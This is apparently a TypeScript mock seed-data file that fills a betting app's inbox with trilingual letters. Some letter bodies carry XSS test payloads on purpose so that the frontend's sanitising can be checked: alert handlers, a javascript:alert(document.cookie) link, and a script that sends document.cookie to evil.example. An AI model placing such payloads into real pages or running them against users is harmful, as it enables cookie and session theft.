// Seed data of the letters: lotus888's inbox (3 unread, one per tab, some carrying HTML with scripts, event
// handlers and javascript: links on purpose: the backend passes what operators type, and the app must sanitise it
// before rendering), the welcome letter every other member has read, and the letters a new member finds. Each text
// is written in Vietnamese, Chinese and English; a record stores the Vietnamese one and the handlers answer the
// request's language (mocks/handlers/service-language.ts).
import type { LetterType } from '@/shared/api/generated/main/model';
import { db } from '../db';
import { serverTime, toBase64 } from '../handlers/account-shared';
import type { Texts } from '../handlers/text-language';

const HOUR = 3_600_000;

export interface LetterText {
  id: number;
  letType: LetterType;
  title: Texts;
  body: Texts;
  read: boolean;
  /** Hours before the seed's reference time. */
  hoursAgo: number;
}

/** lotus888's inbox: one unread letter per tab (3 unread in total), the rest read. */
export const LOTUS_LETTERS: LetterText[] = [
  {
    id: 9001,
    letType: 0,
    title: { vi: 'Chúc mừng thăng cấp VIP', zh: '恭喜晋升VIP', en: 'Congratulations on your VIP upgrade' },
    body: {
      vi: 'Chúc mừng bạn đã lên VIP 2! Phần thưởng thăng cấp đã được cộng vào ví.',
      zh: '恭喜您晋升为VIP 2！晋级奖励已存入您的钱包。',
      en: 'Congratulations, you have reached VIP 2! Your upgrade reward has been added to your wallet.',
    },
    read: false,
    hoursAgo: 2,
  },
  {
    id: 9002,
    letType: 1,
    title: { vi: 'Vòng quay may mắn', zh: '幸运转盘', en: 'Lucky wheel' },
    body: {
      vi: '<p>Vòng quay may mắn đã bắt đầu, đăng nhập mỗi ngày để nhận lượt quay miễn phí.</p><a href="javascript:alert(document.cookie)">Tham gia ngay</a>',
      zh: '<p>幸运转盘活动已开始，每天登录即可获得免费转动机会。</p><a href="javascript:alert(document.cookie)">立即参加</a>',
      en: '<p>The lucky wheel has started: log in every day for a free spin.</p><a href="javascript:alert(document.cookie)">Join now</a>',
    },
    read: false,
    hoursAgo: 5,
  },
  {
    id: 9003,
    letType: 2,
    title: { vi: 'Lịch thi đấu cuối tuần', zh: '周末赛程', en: 'Weekend fixtures' },
    body: {
      vi: '<h3>Lịch thi đấu cuối tuần</h3><table><tr><td>Hà Nội FC</td><td>20:00</td><td>Hải Phòng</td></tr></table><script>fetch("https://evil.example/steal?c="+document.cookie)</script>',
      zh: '<h3>周末赛程</h3><table><tr><td>河内FC</td><td>20:00</td><td>海防</td></tr></table><script>fetch("https://evil.example/steal?c="+document.cookie)</script>',
      en: '<h3>Weekend fixtures</h3><table><tr><td>Hanoi FC</td><td>20:00</td><td>Hai Phong</td></tr></table><script>fetch("https://evil.example/steal?c="+document.cookie)</script>',
    },
    read: false,
    hoursAgo: 9,
  },
  {
    id: 9004,
    letType: 0,
    title: { vi: 'Thông báo bảo trì', zh: '维护通知', en: 'Maintenance notice' },
    body: {
      vi: 'Hệ thống sẽ bảo trì từ 02:00 đến 04:00. Xin cảm ơn quý khách đã thông cảm.',
      zh: '系统将于02:00至04:00进行维护，感谢您的理解。',
      en: 'The system will be under maintenance from 02:00 to 04:00. Thank you for your understanding.',
    },
    read: true,
    hoursAgo: 30,
  },
  {
    id: 9005,
    letType: 0,
    title: { vi: 'Cảnh báo lừa đảo', zh: '防诈骗提醒', en: 'Fraud warning' },
    body: {
      vi: '<p><b>Không</b> chia sẻ mã xác minh cho bất kỳ ai.</p><img src="x" onerror="alert(\'xss\')"><script>alert("xss")</script>',
      zh: '<p><b>切勿</b>将验证码透露给任何人。</p><img src="x" onerror="alert(\'xss\')"><script>alert("xss")</script>',
      en: '<p><b>Never</b> share a verification code with anyone.</p><img src="x" onerror="alert(\'xss\')"><script>alert("xss")</script>',
    },
    read: true,
    hoursAgo: 54,
  },
  {
    id: 9006,
    letType: 1,
    title: { vi: 'Hoàn trả cuối tuần', zh: '周末返水', en: 'Weekend rebate' },
    body: {
      vi: '<p>Hoàn trả 1,2% cho mọi cược thể thao cuối tuần.</p><div onmouseover="alert(1)">Xem chi tiết</div>',
      zh: '<p>周末所有体育投注返水1.2%。</p><div onmouseover="alert(1)">查看详情</div>',
      en: '<p>A 1.2% rebate on every sports bet at the weekend.</p><div onmouseover="alert(1)">See details</div>',
    },
    read: true,
    hoursAgo: 76,
  },
  {
    id: 9007,
    letType: 2,
    title: { vi: 'Kết quả V.League vòng 12', zh: '越南联赛第12轮赛果', en: 'V.League round 12 results' },
    body: {
      vi: 'Hà Nội FC 2 - 1 Hải Phòng. Công An Hà Nội 0 - 0 Thể Công.',
      zh: '河内FC 2 - 1 海防。河内公安 0 - 0 体工。',
      en: 'Hanoi FC 2 - 1 Hai Phong. Cong An Ha Noi 0 - 0 The Cong.',
    },
    read: true,
    hoursAgo: 100,
  },
];

const WELCOME_TITLE: Texts = { vi: 'Chào mừng đến với Lotus', zh: '欢迎来到Lotus', en: 'Welcome to Lotus' };
const WELCOME_BODY: Texts = {
  vi: 'Cảm ơn bạn đã tham gia Lotus. Chúc bạn có những giây phút giải trí vui vẻ!',
  zh: '感谢您加入Lotus，祝您娱乐愉快！',
  en: 'Thank you for joining Lotus. Have a great time!',
};
const NEW_MEMBER_GIFT_TITLE: Texts = { vi: 'Quà chào mừng thành viên mới', zh: '新会员欢迎礼包', en: 'Welcome gift for new members' };
const NEW_MEMBER_GIFT_BODY: Texts = {
  vi: '<p>Nhận ngay gói quà chào mừng trong mục Khuyến mãi.</p><img src="x" onerror="alert(1)">',
  zh: '<p>立即前往“优惠”领取您的欢迎礼包。</p><img src="x" onerror="alert(1)">',
  en: '<p>Claim your welcome gift now under Promotions.</p><img src="x" onerror="alert(1)">',
};

/** Every other seeded member has read the welcome letter (stored in Vietnamese, like every letter). */
export const WELCOME_LETTER = { title: WELCOME_TITLE.vi, body: WELCOME_BODY.vi };

/** Letters a member registered in this session finds in the inbox (both unread; stored in Vietnamese). */
export const NEW_MEMBER_LETTERS: Array<{ letType: LetterType; title: string; body: string }> = [
  { letType: 0, title: WELCOME_TITLE.vi, body: WELCOME_BODY.vi },
  { letType: 1, title: NEW_MEMBER_GIFT_TITLE.vi, body: NEW_MEMBER_GIFT_BODY.vi },
];

/** Every seeded letter text in the three languages: the letter handlers answer in the request's language. */
export const LETTER_TITLES: readonly Texts[] = [...LOTUS_LETTERS.map((letter) => letter.title), WELCOME_TITLE, NEW_MEMBER_GIFT_TITLE];
export const LETTER_BODIES: readonly Texts[] = [...LOTUS_LETTERS.map((letter) => letter.body), WELCOME_BODY, NEW_MEMBER_GIFT_BODY];

const memberId = (userName: string): number | undefined => db.members.findFirst((q) => q.where({ userName }))?.id;

/** The letters of every seeded member, with fixed ids: lotus888's from 9001, the others' welcome letters from 9101. */
export async function seedLetters(now: number): Promise<void> {
  const lotus = memberId('lotus888');
  if (lotus !== undefined) {
    for (const letter of LOTUS_LETTERS) {
      await db.letters.create({
        id: letter.id,
        memberId: lotus,
        title: letter.title.vi,
        content: toBase64(letter.body.vi),
        letType: letter.letType,
        status: letter.read ? 1 : 0,
        sendTime: serverTime(now - letter.hoursAgo * HOUR),
      });
    }
  }
  let id = 9100;
  for (const member of db.members.all()) {
    if (member.id !== lotus) {
      id += 1;
      await db.letters.create({
        id,
        memberId: member.id,
        title: WELCOME_LETTER.title,
        content: toBase64(WELCOME_LETTER.body),
        letType: 0,
        status: 1,
        sendTime: serverTime(now - 24 * 40 * HOUR),
      });
    }
  }
}
